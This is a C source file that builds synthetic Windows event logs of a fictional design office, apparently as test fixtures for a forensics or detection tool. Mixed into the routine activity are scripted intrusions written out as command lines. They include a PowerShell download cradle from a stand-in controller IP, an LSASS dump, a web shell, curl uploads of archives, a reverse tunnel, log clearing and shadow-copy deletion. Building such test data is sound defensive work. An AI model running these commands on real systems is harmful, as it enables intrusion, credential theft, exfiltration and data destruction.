#include "story.h"

#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MINUTE (60 * TIME_SECOND)
#define DAYS 5
#define POWERSHELL_EXE "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define RUNDLL "C:\\Windows\\System32\\rundll32.exe"
#define CMD "C:\\Windows\\System32\\cmd.exe"
#define LIBRARY "C:\\Users\\Public\\Libraries\\msnetwork.dll"
#define CONTROLLER "203.0.113.45"
#define DROP "203.0.113.88"

/* A small generator with a fixed start (Numerical Recipes' constants). */
static uint32_t seed;

static uint32_t pick(uint32_t below)
{
	seed = seed * 1664525 + 1013904223;
	return (uint32_t)((uint64_t)(seed >> 4) * below >> 28);
}

/* What an act's times are moved by. */
static timestamp moved;

static timestamp at(const char *text)
{
	timestamp t;

	if (!timestamp_parse(span_text(text), &t))
		abort();
	return t + moved + (timestamp)pick(1000) * (TIME_SECOND / 1000);
}

/* Adds an event; names and values follow in pairs, ended by NULL. */
static struct story_event *add(struct story *s, timestamp time, enum story_log log, unsigned id,
			       ...)
{
	struct story_event *e;
	const char *name;
	va_list args;

	if (s->count == s->room) {
		s->room = s->room ? s->room * 2 : 1024;
		s->events = realloc(s->events, s->room * sizeof *s->events);
		if (!s->events)
			abort();
	}
	e = &s->events[s->count++];
	*e = (struct story_event){ .time = time, .log = log, .id = id };
	va_start(args, id);
	while ((name = va_arg(args, const char *))) {
		struct story_field *f = &e->fields[e->count++];

		f->name = name;
		snprintf(f->value, sizeof f->value, "%s", va_arg(args, const char *));
	}
	va_end(args);
	return e;
}

static void sysmon_time(timestamp t, char text[32])
{
	struct buf b = buf_new(64);

	timestamp_format(&b, t, 3);
	snprintf(text, 32, "%.10s %.12s", (char *)b.at, (char *)b.at + 11);
	buf_free(&b);
}

static void process(struct story *s, timestamp t, const char *image, const char *command,
		    const char *parent, const char *user)
{
	char utc[32], pid[16];

	sysmon_time(t, utc);
	snprintf(pid, sizeof pid, "%u", 1000 + pick(8000) * 4);
	add(s, t, LOG_SYSMON, 1, "UtcTime", utc, "ProcessId", pid, "Image", image, "CommandLine",
	    command, "CurrentDirectory", "C:\\Windows\\system32\\", "User", user, "IntegrityLevel",
	    "Medium", "ParentImage", parent, NULL);
}

static void connection(struct story *s, timestamp t, const char *image, const char *user,
		       const char *to, const char *port)
{
	const char *address = strstr(s->computer, "FS01") ? "10.20.0.12" : "10.20.1.57";
	char utc[32], from[16];

	sysmon_time(t, utc);
	snprintf(from, sizeof from, "%u", 49152 + pick(16000));
	add(s, t, LOG_SYSMON, 3, "UtcTime", utc, "Image", image, "User", user, "Protocol", "tcp",
	    "Initiated", "true", "SourceIp", address, "SourcePort", from, "DestinationIp", to,
	    "DestinationPort", port, NULL);
}

static void file_made(struct story *s, timestamp t, const char *image, const char *file)
{
	char utc[32];

	sysmon_time(t, utc);
	add(s, t, LOG_SYSMON, 11, "UtcTime", utc, "Image", image, "TargetFilename", file,
	    "CreationUtcTime", utc, NULL);
}

static void service(struct story *s, timestamp t, const char *name, const char *path)
{
	add(s, t, LOG_SYSTEM, 7045, "ServiceName", name, "ImagePath", path, "ServiceType",
	    "user mode service", "StartType", "auto start", "AccountName", "LocalSystem", NULL);
}

static void logon(struct story *s, timestamp t, const char *type, const char *user,
		  const char *from)
{
	char id[24];

	snprintf(id, sizeof id, "0x%x", 0x10000 + pick(0xfffff));
	add(s, t, LOG_SECURITY, 4624, "SubjectUserName", "-", "TargetUserName", user,
	    "TargetDomainName", "AOMINE", "TargetLogonId", id, "LogonType", type, "LogonProcessName",
	    "Kerberos", "WorkstationName", "-", "IpAddress", from, "IpPort", "0", NULL);
	add(s, t + (timestamp)(1 + pick(300)) * MINUTE, LOG_SECURITY, 4634, "TargetUserName", user,
	    "TargetDomainName", "AOMINE", "TargetLogonId", id, "LogonType", type, NULL);
}

/* What an ordinary office does all day. */
static void ordinary_minute(struct story *s, timestamp t, const char *user)
{
	static const char *const programs[][2] = {
		{ "C:\\Program Files\\Microsoft Office\\Office16\\OUTLOOK.EXE", "OUTLOOK.EXE" },
		{ "C:\\Program Files\\Microsoft Office\\Office16\\EXCEL.EXE", "EXCEL.EXE /dde" },
		{ "C:\\Program Files\\JustSystems\\TARO\\TARO.EXE", "TARO.EXE" },
		{ "C:\\Program Files\\Internet Explorer\\iexplore.exe", "iexplore.exe" },
		{ "C:\\Program Files\\Autodesk\\AutoCAD 2016\\acad.exe", "acad.exe" },
		{ "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs" },
		{ "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe" },
		{ "C:\\Windows\\System32\\SearchProtocolHost.exe", "SearchProtocolHost.exe" },
		{ "C:\\Windows\\System32\\conhost.exe", "conhost.exe 0xffffffff" },
	};
	uint32_t which = pick(9);
	char name[64];

	switch (pick(6)) {
	case 0:
		process(s, t, programs[which][0], programs[which][1], "C:\\Windows\\explorer.exe", user);
		break;
	case 1:
		connection(s, t, programs[3][0], user, "10.20.0.8", "8080");
		break;
	case 2:
		snprintf(name, sizeof name, "D:\\work\\drawing-%04u.dwg", pick(9999));
		file_made(s, t, programs[4][0], name);
		break;
	case 3:
		logon(s, t, pick(3) ? "3" : "5", pick(2) ? "sato" : "SYSTEM", "10.20.0.5");
		break;
	case 4:
		add(s, t, LOG_SYSTEM, 7036, "param1", pick(2) ? "Windows Update" : "Print Spooler",
		    "param2", pick(2) ? "running" : "stopped", NULL);
		break;
	default:
		if (pick(12) == 0)
			add(s, t, LOG_POWERSHELL, 4104, "MessageNumber", "1", "MessageTotal", "1",
			    "ScriptBlockText", "Get-ChildItem D:\\work | Measure-Object -Sum Length",
			    "ScriptBlockId", "5b8c0f4e-0000-4000-8000-000000000000", "Path", "", NULL);
	}
}

static void ordinary_days(struct story *s, const char *user)
{
	timestamp monday = at("2017-03-05T23:00:00Z");

	for (int day = 0; day < DAYS; day++)
		for (int minute = 0; minute < 10 * 60; minute++)
			ordinary_minute(s, monday + (day * 1440 + minute) * (timestamp)MINUTE +
					(timestamp)pick(60000) * (TIME_SECOND / 1000), user);
}

static int by_time(const void *a, const void *b)
{
	const struct story_event *x = a, *y = b;

	return (x->time > y->time) - (x->time < y->time);
}

static void intrusion_on_workstation(struct story *s)
{
	static const char user[] = "AOMINE\\sato";
	static const char word[] = "C:\\Program Files\\Microsoft Office\\Office16\\WINWORD.EXE";
	char utc[32];

	process(s, at("2017-03-06T00:14:31Z"), word, "WINWORD.EXE \"見積依頼_201703.doc\"",
		"C:\\Program Files\\Microsoft Office\\Office16\\OUTLOOK.EXE", user);
	process(s, at("2017-03-06T00:14:52Z"), POWERSHELL_EXE,
		"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAG0AYQByAGsAZQByACkA", word, user);
	add(s, at("2017-03-06T00:14:55Z"), LOG_POWERSHELL, 4104, "MessageNumber", "1",
	    "MessageTotal", "1", "ScriptBlockText",
	    "IEX (New-Object Net.WebClient).DownloadString('http://" CONTROLLER "/news/a.gif')",
	    "ScriptBlockId", "7d1f3a52-0000-4000-8000-000000000001", "Path", "", NULL);
	connection(s, at("2017-03-06T00:15:03Z"), POWERSHELL_EXE, user, CONTROLLER, "80");
	file_made(s, at("2017-03-06T00:15:10Z"), POWERSHELL_EXE, LIBRARY);
	process(s, at("2017-03-06T00:15:12Z"), RUNDLL, "rundll32.exe " LIBRARY ",Start",
		POWERSHELL_EXE, user);
	sysmon_time(at("2017-03-06T00:15:15Z"), utc);
	add(s, at("2017-03-06T00:15:15Z"), LOG_SYSMON, 13, "EventType", "SetValue", "UtcTime", utc,
	    "Image", RUNDLL, "TargetObject", "HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\"
	    "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Network", "Details",
	    "rundll32.exe C:\\ProgramData\\..\\Users\\Public\\Libraries\\msnetwork.dll,Start", NULL);
	add(s, at("2017-03-06T00:15:16Z"), LOG_SYSMON, 2, "UtcTime", utc, "Image", RUNDLL,
	    "TargetFilename", LIBRARY, "CreationUtcTime", "2009-07-14 01:14:00.000",
	    "PreviousCreationUtcTime", utc, NULL);
	file_made(s, at("2017-03-06T00:15:40Z"), RUNDLL, "C:\\Users\\sato\\AppData\\Roaming\\Microsoft\\"
		  "Windows\\Start Menu\\Programs\\Startup\\update.vbs");
	for (int i = 0; i < 180; i++)
		connection(s, at("2017-03-06T00:20:00Z") + i * 15 * (timestamp)MINUTE +
			   (timestamp)pick(40) * TIME_SECOND, RUNDLL, user, CONTROLLER, "443");
	process(s, at("2017-03-06T01:02:10Z"), "C:\\Windows\\System32\\whoami.exe", "whoami /all", CMD,
		user);
	process(s, at("2017-03-06T01:02:44Z"), "C:\\Windows\\System32\\net.exe",
		"net group \"Domain Admins\" /domain", CMD, user);
	process(s, at("2017-03-07T02:31:00Z"), RUNDLL,
		"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 "
		"C:\\Users\\Public\\Libraries\\n.dmp full", CMD, "NT AUTHORITY\\SYSTEM");
	process(s, at("2017-03-07T02:40:12Z"), "C:\\Windows\\System32\\net.exe",
		"net use \\\\FS01\\c$ ******** /user:AOMINE\\fsadmin", CMD, user);
}

void story_of_workstation(struct story *s)
{
	seed = 20170306;
	s->computer = "DESIGN07.aomine.example";
	ordinary_days(s, "AOMINE\\sato");
	intrusion_on_workstation(s);
	qsort(s->events, s->count, sizeof *s->events, by_time);
}

static void packing_and_sending(struct story *s, const char *user)
{
	static const char *const parts[] = { "01", "02", "03" };
	char line[200];

	process(s, at("2017-03-08T13:05:02Z"), "C:\\PerfLogs\\r.exe",
		"r.exe a -r -hp******** -m5 -v200m C:\\$Recycle.Bin\\d.rar D:\\design\\*.dwg D:\\design\\*.pdf",
		CMD, user);
	for (int i = 0; i < 3; i++) {
		snprintf(line, sizeof line, "C:\\$Recycle.Bin\\d.part%s.rar", parts[i]);
		file_made(s, at("2017-03-08T13:06:30Z") + i * 5 * (timestamp)MINUTE,
			  "C:\\PerfLogs\\r.exe", line);
		snprintf(line, sizeof line,
			 "curl.exe -s -k -T C:\\$Recycle.Bin\\d.part%s.rar https://" DROP "/u/", parts[i]);
		process(s, at("2017-03-08T13:31:08Z") + i * 7 * (timestamp)MINUTE,
			"C:\\PerfLogs\\curl.exe", line, CMD, user);
		connection(s, at("2017-03-08T13:31:09Z") + i * 7 * (timestamp)MINUTE,
			   "C:\\PerfLogs\\curl.exe", user, DROP, "443");
	}
}

static void intrusion_on_server(struct story *s)
{
	static const char user[] = "AOMINE\\fsadmin";

	logon(s, at("2017-03-07T02:41:10Z"), "3", "fsadmin", "10.20.1.57");
	service(s, at("2017-03-07T02:41:12Z"), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
	process(s, at("2017-03-07T02:41:13Z"), CMD, "cmd.exe", "C:\\Windows\\PSEXESVC.exe",
		"NT AUTHORITY\\SYSTEM");
	process(s, at("2017-03-07T02:43:20Z"), "C:\\Windows\\System32\\schtasks.exe",
		"schtasks /create /sc hourly /tn \"Intel Graphics Update\" /tr "
		"C:\\ProgramData\\Intel\\igfxsvc.exe /ru SYSTEM", CMD, "NT AUTHORITY\\SYSTEM");
	service(s, at("2017-03-07T02:50:41Z"), "igfxsvc", "C:\\ProgramData\\Intel\\igfxsvc.exe -k");
	file_made(s, at("2017-03-07T03:10:05Z"), CMD,
		  "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\help.aspx");
	process(s, at("2017-03-07T03:12:45Z"), CMD, "cmd.exe /c whoami",
		"C:\\Windows\\System32\\inetsrv\\w3wp.exe", "IIS APPPOOL\\DefaultAppPool");
	packing_and_sending(s, user);
	process(s, at("2017-03-09T13:39:30Z"), "C:\\Windows\\System32\\netsh.exe",
		"netsh advfirewall set allprofiles state off", CMD, user);
	process(s, at("2017-03-09T13:40:02Z"), "C:\\Windows\\System32\\wevtutil.exe",
		"wevtutil cl Security", CMD, user);
	process(s, at("2017-03-10T11:19:20Z"), "C:\\ProgramData\\plink.exe",
		"plink.exe -N -R 33890:127.0.0.1:3389 u@" CONTROLLER, CMD, user);
	logon(s, at("2017-03-10T11:20:31Z"), "10", "fsadmin", "127.0.0.1");
}

/* Clearing takes away all that the log held, and leaves the record of itself. */
static void clear_log(struct story *s, enum story_log log, timestamp when)
{
	size_t kept = 0;
	struct story_event *e;

	for (size_t i = 0; i < s->count; i++)
		if (s->events[i].log != log || s->events[i].time >= when)
			s->events[kept++] = s->events[i];
	s->count = kept;
	e = add(s, when, log == LOG_SECURITY ? LOG_SECURITY : LOG_SYSTEM,
		log == LOG_SECURITY ? 1102 : 104, "SubjectUserName", "fsadmin",
		"SubjectDomainName", "AOMINE", NULL);
	e->provider = "Microsoft-Windows-Eventlog";
	e->user_data = true;
}

static void file_deleted(struct story *s, timestamp t, const char *image, const char *file)
{
	char utc[32];

	sysmon_time(t, utc);
	add(s, t, LOG_SYSMON, 26, "UtcTime", utc, "Image", image, "User", "AOMINE\\sato",
	    "TargetFilename", file, NULL);
}

/* An archive in the recycle bin; whether it leaves is for other evidence to say. */
static void gathering(struct story *s)
{
	static const char user[] = "AOMINE\\sato";

	process(s, at("2017-03-08T13:05:02Z"), "C:\\PerfLogs\\r.exe",
		"r.exe a -r -hp******** -m5 C:\\$Recycle.Bin\\d.rar D:\\design\\*.dwg", CMD, user);
	file_made(s, at("2017-03-08T13:06:30Z"), "C:\\PerfLogs\\r.exe", "C:\\$Recycle.Bin\\d.rar");
}

static void wiping(struct story *s)
{
	static const char user[] = "NT AUTHORITY\\SYSTEM";
	char name[80];

	process(s, at("2017-03-09T20:00:10Z"), "C:\\Windows\\System32\\vssadmin.exe",
		"vssadmin.exe delete shadows /all /quiet", CMD, user);
	process(s, at("2017-03-09T20:00:14Z"), "C:\\Windows\\System32\\wbadmin.exe",
		"wbadmin delete catalog -quiet", CMD, user);
	for (int i = 0; i < 800; i++) {
		snprintf(name, sizeof name, "D:\\work\\drawing-%04d.dwg", i);
		file_deleted(s, at("2017-03-09T20:01:00Z") + i * (TIME_SECOND / 4), "C:\\PerfLogs\\w.exe",
			     name);
	}
}

void story_of_office(struct story *s, unsigned acts, uint32_t number, int64_t moved_seconds)
{
	seed = 20170308 + number * 7919;
	s->computer = "DESIGN07.aomine.example";
	ordinary_days(s, "AOMINE\\sato");
	moved = moved_seconds * TIME_SECOND;
	if (acts & STORY_GATHERING)
		gathering(s);
	if (acts & STORY_REMOVING)
		file_deleted(s, at("2017-03-08T13:50:00Z"), CMD, "C:\\$Recycle.Bin\\d.rar");
	if (acts & STORY_WIPING)
		wiping(s);
	qsort(s->events, s->count, sizeof *s->events, by_time);
	if (acts & STORY_CLEARING) {
		clear_log(s, LOG_SECURITY, at("2017-03-09T13:40:03Z"));
		qsort(s->events, s->count, sizeof *s->events, by_time);
	}
	moved = 0;
}

/* The same name as a string that stays, for the few that tables use. */
static const char *field_name(struct span name)
{
	static char names[64][40];
	size_t i = 0;

	while (i < 63 && names[i][0] && !span_eq(name, span_text(names[i])))
		i++;
	if (!names[i][0])
		snprintf(names[i], sizeof names[i], "%.*s", SPAN_ARG(name));
	return names[i];
}

/* The fields of a step; '#' is the number of the repetition. */
static void add_fields(struct story_event *e, const char *fields, unsigned number)
{
	struct span rest = span_text(fields);

	while (rest.len && e->count < STORY_FIELDS) {
		struct span value = span_split(&rest, '|'), name = span_split(&value, '=');
		struct story_field *f = &e->fields[e->count++];
		size_t len = 0;

		for (size_t i = 0; i < value.len && len + 12 < sizeof f->value; i++)
			if (value.at[i] == '#')
				len += (size_t)snprintf(f->value + len, 12, "%u", number);
			else
				f->value[len++] = (char)value.at[i];
		f->value[len] = 0;
		f->name = field_name(name);
	}
}

static void add_step(struct story *s, const struct story_step *step)
{
	for (unsigned i = 0; i < (step->times ? step->times : 1); i++) {
		timestamp t = at(step->when) + (timestamp)(i * step->every) * TIME_SECOND;
		struct story_event *e = add(s, t, step->log, step->id, NULL);
		char utc[32];

		sysmon_time(t, utc);
		if (step->log == LOG_SYSMON)
			e->fields[e->count].name = "UtcTime", strcpy(e->fields[e->count++].value, utc);
		e->provider = step->provider;
		e->user_data = step->user_data;
		add_fields(e, step->fields, i);
	}
}

void story_of_steps(struct story *s, const struct story_step *steps, uint32_t number, int64_t moved_seconds)
{
	seed = 20170310 + number * 7919;
	s->computer = "DESIGN07.aomine.example";
	ordinary_days(s, "AOMINE\\sato");
	moved = moved_seconds * TIME_SECOND;
	for (; steps && steps->when; steps++)
		add_step(s, steps);
	moved = 0;
	qsort(s->events, s->count, sizeof *s->events, by_time);
}

void story_of_file_server(struct story *s)
{
	seed = 20170307;
	s->computer = "FS01.aomine.example";
	ordinary_days(s, "AOMINE\\svc-backup");
	intrusion_on_server(s);
	qsort(s->events, s->count, sizeof *s->events, by_time);
	clear_log(s, LOG_SECURITY, at("2017-03-09T13:40:03Z"));
	qsort(s->events, s->count, sizeof *s->events, by_time);
}
